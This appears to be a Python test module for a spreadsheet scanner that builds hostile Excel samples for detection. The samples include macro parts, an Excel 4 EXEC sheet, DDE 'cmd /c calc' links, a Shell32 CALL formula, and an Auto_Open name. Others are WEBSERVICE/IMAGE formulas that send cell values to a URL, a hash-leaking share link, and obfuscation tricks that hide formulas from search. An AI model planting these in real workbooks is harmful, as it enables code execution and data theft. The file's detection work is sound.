"""Active content: it is admitted and never run, and each piece gives a finding that names its place.

Macros may be the whole point of an attack, so what hides them from a plain search is tried too.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from functools import partial
from pathlib import Path

from tests.hostile import book
from tests.hostile.book import BOOK, MAIN, OFFICE, SHEET, STYLES, row, rows, save, worksheet
from tests.hostile.markup import NOWHERE
from tests.hostile.table import ADMITTED, add

_SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"
_BOOK_RELS = "xl/_rels/workbook.xml.rels"
_MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
_OWN = (("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml"), ("styles", "styles.xml"))


def _add(name: str, place: str, changes: Mapping[str, bytes], why: str, sheet: str | None = None) -> None:
    add(f"active_{name}", lambda path: save(path, sheet, changes), ADMITTED, why=why, place=place)


def _beside_book(*items: tuple[str, str]) -> bytes:
    """The workbook's relationships with more."""
    return book.relationships(*_OWN, *items)


def _xml(root: str, inside: str = "", attributes: str = "") -> bytes:
    return f'{book.HEAD}<{root} xmlns="{MAIN}" xmlns:r="{OFFICE}"{attributes}>{inside}</{root}>'.encode()


_MACROS = f"{_MICROSOFT}/vbaProject"
_add(
    "macros",
    "xl/vbaProject.bin",
    {_BOOK_RELS: _beside_book((_MACROS, "vbaProject.bin")), "xl/vbaProject.bin": b"\xd0\xcf"},
    "macros",
)
_add(
    "macros_renamed",
    "xl/theme.xml",
    {_BOOK_RELS: _beside_book((_MACROS, "theme.xml")), "xl/theme.xml": b"\xd0\xcf"},
    "macros under another name: the relationship says what it is",
)
_add(
    "macros_upper",
    "xl/VBAPROJECT.BIN",
    {_BOOK_RELS: _beside_book((_MACROS, "VBAPROJECT.BIN")), "xl/VBAPROJECT.BIN": b"\xd0\xcf"},
    "macros in capitals",
)
_add(
    "macros_absolute",
    "xl/vbaProject.bin",
    {_BOOK_RELS: _beside_book((_MACROS, "/xl/vbaProject.bin")), "xl/vbaProject.bin": b"\xd0\xcf"},
    "macros by an absolute target",
)
_add(
    "macro_sheet",
    "xl/macrosheets/sheet1.xml",
    {
        _BOOK_RELS: _beside_book((f"{_MICROSOFT}/xlMacrosheet", "macrosheets/sheet1.xml")),
        "xl/macrosheets/sheet1.xml": _xml(
            "macrosheet", '<sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row></sheetData>'
        ),
    },
    "an Excel 4 macro sheet",
)
_add(
    "macro_sheet_international",
    "xl/macrosheets/intlsheet1.xml",
    {
        _BOOK_RELS: _beside_book((f"{_MICROSOFT}/xlIntlMacrosheet", "macrosheets/intlsheet1.xml")),
        "xl/macrosheets/intlsheet1.xml": _xml("macrosheet", "<sheetData/>"),
    },
    "the same in another language",
)
_add(
    "dialog_sheet",
    "xl/dialogsheets/sheet1.xml",
    {
        _BOOK_RELS: _beside_book(("dialogsheet", "dialogsheets/sheet1.xml")),
        "xl/dialogsheets/sheet1.xml": _xml("dialogsheet"),
    },
    "a dialog of Excel 5",
)

# Links and connections.
_LINK = "xl/externalLinks/externalLink1.xml"
_LINK_RELS = "xl/externalLinks/_rels/externalLink1.xml.rels"
_LINKED = _beside_book(("externalLink", "externalLinks/externalLink1.xml"))
_add(
    "link",
    "externalLink1.xml",
    {
        _BOOK_RELS: _LINKED,
        _LINK: _xml("externalLink", '<externalBook r:id="rId1"/>'),
        _LINK_RELS: book.relationships(("externalLinkPath", "file:///C:/Ram%202022.xlsx")),
    },
    "values from another workbook",
)
_add(
    "link_share",
    "externalLink1.xml",
    {
        _BOOK_RELS: _LINKED,
        _LINK: _xml("externalLink", '<externalBook r:id="rId1"/>'),
        _LINK_RELS: book.relationships(("externalLinkPath", "file://///server/share/x.xlsx")),
    },
    "a share: opening it sends a password hash",
)
_add(
    "link_dde",
    "externalLink1.xml",
    {
        _BOOK_RELS: _LINKED,
        _LINK: _xml(
            "externalLink",
            '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>',
        ),
    },
    "DDE starts programs",
)
_add(
    "link_ole",
    "externalLink1.xml",
    {
        _BOOK_RELS: _LINKED,
        _LINK: _xml("externalLink", '<oleLink r:id="rId1" progId="Word.Document"/>'),
        _LINK_RELS: book.relationships(("oleObject", NOWHERE)),
    },
    "a linked object",
)
_add(
    "connections",
    "xl/connections.xml",
    {
        _BOOK_RELS: _beside_book(("connections", "connections.xml")),
        "xl/connections.xml": _xml("connections", f'<connection id="1" type="4"><webPr url="{NOWHERE}"/></connection>'),
    },
    "data from the web",
)
_add(
    "query_table",
    "xl/queryTables/queryTable1.xml",
    {
        _SHEET_RELS: book.relationships(("queryTable", "../queryTables/queryTable1.xml")),
        "xl/queryTables/queryTable1.xml": _xml("queryTable", attributes=' name="q" connectionId="1" refreshOnLoad="1"'),
    },
    "refreshed when opened",
)

# Objects.
_OBJECTS = worksheet(rows(), after='<oleObjects><oleObject progId="Package" shapeId="1" r:id="rId1"/></oleObjects>')
_add(
    "object",
    "xl/embeddings/oleObject1.bin",
    {
        _SHEET_RELS: book.relationships(("oleObject", "../embeddings/oleObject1.bin")),
        "xl/embeddings/oleObject1.bin": b"\xd0\xcf",
    },
    "an embedded object",
    _OBJECTS,
)
_add(
    "object_linked",
    "sheet1.xml",
    {_SHEET_RELS: book.relationships(("oleObject", NOWHERE))},
    "an object elsewhere",
    _OBJECTS,
)
_add(
    "object_package",
    "xl/embeddings/x.docx",
    {_SHEET_RELS: book.relationships(("package", "../embeddings/x.docx")), "xl/embeddings/x.docx": b"PK"},
    "an embedded document",
    _OBJECTS,
)
_add(
    "control",
    "xl/activeX/activeX1.xml",
    {
        _SHEET_RELS: book.relationships(("control", "../activeX/activeX1.xml")),
        "xl/activeX/activeX1.xml": b"<x/>",
        "xl/activeX/_rels/activeX1.xml.rels": book.relationships(
            (f"{_MICROSOFT}/activeXControlBinary", "activeX1.bin")
        ),
        "xl/activeX/activeX1.bin": b"\0",
    },
    "an ActiveX control",
)
_PACKAGE = (("officeDocument", BOOK),)
_RIBBON = _xml("customUI", attributes=' onLoad="x"')
_add(
    "ribbon",
    "customUI/customUI.xml",
    {
        "_rels/.rels": book.relationships(*_PACKAGE, (f"{_MICROSOFT}/ui/extensibility", "customUI/customUI.xml")),
        "customUI/customUI.xml": _RIBBON,
    },
    "buttons that call macros",
)
_add(
    "ribbon_2010",
    "customUI/customUI14.xml",
    {
        "_rels/.rels": book.relationships(
            *_PACKAGE,
            ("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml"),
        ),
        "customUI/customUI14.xml": _RIBBON,
    },
    "the same of 2010",
)


# Formulas that fetch or call. Each stands in B7.
def _formula(cell: str) -> str:
    return worksheet(rows() + row(7, cell))


def _in_b7(formula: str) -> str:
    return f'<c r="B7"><f>{formula}</f><v>1</v></c>'


_FORMULAS: dict[str, str] = {
    "webservice": _in_b7(f'_xlfn.WEBSERVICE("{NOWHERE}"&amp;B3)'),
    "webservice_plain": _in_b7(f'WEBSERVICE("{NOWHERE}")'),
    "webservice_lower": _in_b7(f'webservice("{NOWHERE}")'),
    "webservice_inside": _in_b7(f'IF(A1=1,1,IFERROR(WEBSERVICE("{NOWHERE}"),0))'),
    "filterxml": _in_b7('_xlfn.FILTERXML(A1,"//a")'),
    "importdata": _in_b7(f'IMPORTDATA("{NOWHERE}")'),
    "hyperlink_built": _in_b7(f'HYPERLINK("{NOWHERE}?"&amp;B3,"Klicka")'),
    "image": _in_b7(f'_xlfn.IMAGE("{NOWHERE}?"&amp;B3)'),
    "rtd": _in_b7('RTD("x.y",,"z")'),
    "call": _in_b7('CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open","calc")'),
    "register": _in_b7('REGISTER.ID("Shell32","ShellExecuteA")'),
    "dde": _in_b7("cmd|'/c calc'!A0"),
    "dde_spaced": _in_b7("cmd | '/c calc' ! A0"),
    "attributes_first": f'<c s="0" t="str" r="B7"><f ca="1">WEBSERVICE("{NOWHERE}")</f><v>1</v></c>',
    "single_quotes": f"<c r='B7'><f>WEBSERVICE(\"{NOWHERE}\")</f><v>1</v></c>",
    "blanks_in_tags": f'<c  r = "B7"\n ><f\n>WEBSERVICE("{NOWHERE}")</f ><v>1</v></c >',
    "value_first": f'<c r="B7"><v>1</v><f>WEBSERVICE("{NOWHERE}")</f></c>',
    "no_address": f'<c/><c><f>WEBSERVICE("{NOWHERE}")</f><v>1</v></c>',
    "reference": _in_b7(f'&#87;EB&#x53;ERVICE("{NOWHERE}")'),
    "cdata": _in_b7(f'<![CDATA[WEB]]>SERVICE<![CDATA[("{NOWHERE}")]]>'),
    "comment": _in_b7(f'WEB<!-- x -->SERVICE("{NOWHERE}")'),
    "shared": f'<c r="B7"><f t="shared" si="0" ref="B7:B8">WEBSERVICE("{NOWHERE}")</f><v>1</v></c>',
    "array": f'<c r="B7"><f t="array" ref="B7">WEBSERVICE("{NOWHERE}")</f><v>1</v></c>',
}
for _name, _cell in _FORMULAS.items():
    _add(f"formula_{_name}", "Blad1!B7", {}, "a formula that fetches, calls or starts", _formula(_cell))
_PREFIXED = (
    _formula(_in_b7(f'WEBSERVICE("{NOWHERE}")'))
    .replace("<", "<x:")
    .replace("<x:/", "</x:")
    .replace("<x:?", "<?")
    .replace("xmlns=", "xmlns:x=")
)
_add("formula_prefixed", "Blad1!B7", {}, "behind a namespace prefix", _PREFIXED)
_WIDE = b"\xff\xfe" + _formula(_in_b7(f'WEBSERVICE("{NOWHERE}")')).replace("UTF-8", "UTF-16").encode("utf-16-le")
_add("formula_utf16", "Blad1!B7", {SHEET: _WIDE}, "in UTF-16")

# Formulas outside cells.
_FETCH = f'WEBSERVICE("{NOWHERE}")'
_RULE = f'<cfRule type="expression" priority="1"><formula>{_FETCH}</formula></cfRule>'
_CONDITIONAL = f'<conditionalFormatting sqref="A1">{_RULE}</conditionalFormatting>'
_LIST = f'<dataValidation sqref="A1" type="list"><formula1>{_FETCH}</formula1></dataValidation>'
_VALIDATION = f"<dataValidations>{_LIST}</dataValidations>"
_add(
    "formula_in_name",
    "",
    {BOOK: book.workbook(after=f'<definedNames><definedName name="x">{_FETCH}</definedName></definedNames>')},
    "a name that fetches",
)
_add(
    "macro_name",
    "",
    {
        BOOK: book.workbook(
            after='<definedNames><definedName name="_xlnm.Auto_Open">Blad1!$A$1</definedName></definedNames>'
        )
    },
    "a name that starts an Excel 4 macro on opening",
)
_add(
    "formula_in_format",
    "Blad1",
    {},
    "a conditional format that fetches",
    worksheet(
        rows(),
        after=_CONDITIONAL,
    ),
)
_add(
    "formula_in_validation",
    "Blad1",
    {},
    "a validation that fetches",
    worksheet(
        rows(),
        after=_VALIDATION,
    ),
)

# Near misses: no findings.
_QUIET: dict[str, Callable[[Path], None]] = {
    "plain": save,
    "words_as_text": partial(
        save, sheet=_formula('<c r="B7" t="inlineStr"><is><t>=WEBSERVICE("x") och cmd|x!A0</t></is></c>')
    ),
    "words_in_quotes": partial(save, sheet=_formula(_in_b7('"WEBSERVICE("&amp;"x"'))),
    "longer_word": partial(save, sheet=_formula(_in_b7("MYCALL(1)+RECALL(2)"))),
    "pipe_in_quotes": partial(save, sheet=_formula(_in_b7('"a|b!c"&amp;A1'))),
    "own_link": partial(
        save, sheet=worksheet(rows(), after='<hyperlinks><hyperlink ref="A1" location="Blad1!B3"/></hyperlinks>')
    ),
    "styles": partial(save, changes={STYLES: book.styles()}),
}
for _name, _build in _QUIET.items():
    add(f"quiet_{_name}", _build, ADMITTED, why="nothing active: no finding", cells=(("B3", "1500"),))
